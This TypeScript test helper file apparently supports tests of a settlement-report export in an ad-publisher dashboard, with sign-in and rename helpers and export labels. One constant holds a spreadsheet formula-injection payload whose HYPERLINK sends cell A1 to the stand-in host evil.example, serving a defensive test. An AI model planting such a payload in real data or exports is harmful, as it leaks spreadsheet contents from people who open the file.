import { post } from '@/request';
import { signInAs } from '../support/signIn';

/** Signs the demo publisher in against the msw mock and keeps its token for the request layer. */
export async function signInDemo(): Promise<string> {
  return (await signInAs('demo'))['user-token'];
}

/** A formula-looking app name, as a hostile publisher might type it. */
export const HOSTILE_NAME = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';

/** Renames app 1001 through the API so its name reaches the report and the export. */
export async function renameApp(id: number, name: string): Promise<void> {
  await post('/media/app/update', { id, name }, { noMsg: true });
}

export const EXPORT_LABELS = {
  reportName: 'Settlement report',
  sheetName: 'Settlement',
  period: 'Period',
  timeZone: 'Time zone',
  currency: 'Currency',
  generatedAt: 'Generated at',
  updatedAt: 'Data updated at',
  total: 'Total',
  appId: 'App ID',
  adPositionId: 'Ad position ID',
  countryCode: 'Country code',
  status: { estimated: 'Estimated', final: 'Final' },
  adType: {
    splash: 'Splash',
    banner: 'Banner',
    interstitial: 'Interstitial',
    native: 'Native',
    rewarded: 'Rewarded video',
  },
  platform: { android: 'Android', ios: 'iOS' },
  country: (code: string) => new Intl.DisplayNames(['en-US'], { type: 'region' }).of(code) ?? code,
} as const;
